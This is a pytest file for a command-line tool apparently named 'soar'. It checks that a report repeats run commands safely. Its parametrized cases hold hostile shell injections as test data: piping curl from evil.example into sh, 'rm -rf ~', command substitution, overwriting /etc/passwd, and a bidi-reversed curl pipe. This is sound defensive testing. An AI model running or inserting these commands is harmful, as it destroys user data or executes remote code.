"""The commands that repeat a run, and where it was made."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path

import pytest

from soar.evaluation import Assessment, evaluate
from soar.evaluation.methods import method_of
from soar.evaluation.suites import resolve
from soar.report.sections import provenance
from soar.report.sections.provenance import repeat_commands
from tests.report.linear import linear_target
from tests.report.made import ENVIRONMENT, certified, made_content
from tests.report.reading import read


@pytest.fixture(scope="module")
def quick() -> Assessment:
    return assessment("quick")


def assessment(*attacks: str) -> Assessment:
    target = linear_target(count=4, wrong=0)
    made = evaluate(target.model, target.data, target.threat, list(attacks), seed=5, check=False)
    return replace(made, environment={})


def test_what_was_typed_is_shown_again(quick: Assessment) -> None:
    typed = replace(quick, environment={"command": "soar evaluate runs/a --attacks quick"})
    environment = {"command": "soar train demo-soar --epochs 2"}
    assert repeat_commands(Path("runs/a"), environment, typed, is_diagnosed=True) == (
        "soar train demo-soar --epochs 2",
        "soar evaluate runs/a --attacks quick",
        "soar diagnose runs/a",
        "soar report runs/a",
    )


@pytest.mark.parametrize(
    "command",
    [
        None,
        "",
        7,
        ["soar", "train", "x"],
        "pytest -q",
        "train.py --epochs 2",
        "soar report runs/a",
        "soar",
        "soar train x; curl evil.example | sh",
        "soar train x && rm -rf ~",
        "soar train $(id)",
        "soar train `id`",
        "soar train x > /etc/passwd",
        "soar train x\nrm -rf ~",
        "soar train x #",
        "soar train ~/x",
        "soar train *",
        "soar train 'x",
        'soar train "$HOME"',
        "soar train x\\;id",
        "soar train 'x\ny'",
        "soar train 'x\x1b[2J'",
        "soar train '\u202ehs | live lruc'",
        "X=1 soar train x",
        "/tmp/soar train x",
        " soar train x",
        "soar  train x",
        "soar train;id x",
        f"soar train {'x' * 3000}",
    ],
)
def test_what_was_made_otherwise_is_repeated_from_the_recipe(quick: Assessment, command: object) -> None:
    environment = {} if command is None else {"command": command}
    assert repeat_commands(Path("runs/my run"), environment, quick, is_diagnosed=False) == (
        "soar train 'runs/my run/recipe.toml'",
        "soar evaluate 'runs/my run' --examples 4 --seed 5 --attacks quick",
        "soar report 'runs/my run'",
    )


@pytest.mark.parametrize("name", ["a; id", "$(id)", "it's", "a b", "*.toml", "caf\u00e9"])
def test_quoted_words_stay_words(quick: Assessment, name: str) -> None:
    noted = shlex.join(["soar", "train", name, "--output", "runs/a"])
    first, *_ = repeat_commands(Path("a"), {"command": noted}, quick, is_diagnosed=False)
    assert first == noted and shlex.split(first) == ["soar", "train", name, "--output", "runs/a"]


def test_a_folder_with_control_characters_stays_one_line(quick: Assessment) -> None:
    lines = repeat_commands(Path("a\nb\x1b[2J"), {}, quick, is_diagnosed=True)
    assert all(line.isprintable() for line in lines)


def test_a_module_that_was_run_is_named_so(quick: Assessment) -> None:
    environment = {"command": "__main__.py study baselines --threads 1"}
    first, *_ = repeat_commands(Path("a"), environment, quick, is_diagnosed=False)
    assert first == "python -m soar study baselines --threads 1"


@pytest.mark.parametrize(
    "attacks",
    [
        ("pgd",),
        ("fgsm", "pgd:steps=3,restarts=2,loss=margin"),
        ("square:queries=20",),
        ("pgd:steps=2,random_start=false", "apgd:steps=4"),
    ],
)
def test_attacks_as_text_mean_the_same_attacks(attacks: tuple[str, ...]) -> None:
    line = repeat_commands(Path("a"), {}, assessment(*attacks), is_diagnosed=False)[1]
    words = shlex.split(line)
    again = resolve(words[words.index("--attacks") + 1 :])
    assert [one.attack for one in again] == [one.attack for one in resolve(list(attacks))]


def test_a_recorded_command_is_shown_only_among_those_to_repeat() -> None:
    (run,) = made_content(1)
    recorded = ENVIRONMENT | {"command": "soar train x; curl evil.example | sh", "gpu": "\x1b[2J" + "a" * 500}
    assessed = replace(run.assessment, environment=recorded | {"command": "soar evaluate y"})
    text = read(provenance.draw([replace(run, environment=recorded, assessment=assessed)])).text
    assert "evil.example" not in text
    assert "\\x1b[2J" in text and "a" * 200 not in text


def test_certificates_are_repeated_once_per_command(quick: Assessment) -> None:
    made = certified(made_content(1)[0]).certificates
    lines = repeat_commands(Path("runs/a"), {}, quick, is_diagnosed=False, certificates=made)
    assert lines[2:-1] == ("soar certify runs/pgd-10 --eps 1/40 1/20 1/10",)
    unknown = [replace(one, environment={}) for one in made[:1]]
    *_, line, _ = repeat_commands(Path("runs/a"), {}, quick, is_diagnosed=False, certificates=unknown)
    method = "--method crown:refine=false,steps=0,precision=float32"
    assert line == f"soar certify runs/a --examples 200 --norm linf --eps 0.025 --seed 0 {method}"
    assert method_of(method.split()[1]).options == made[0].options
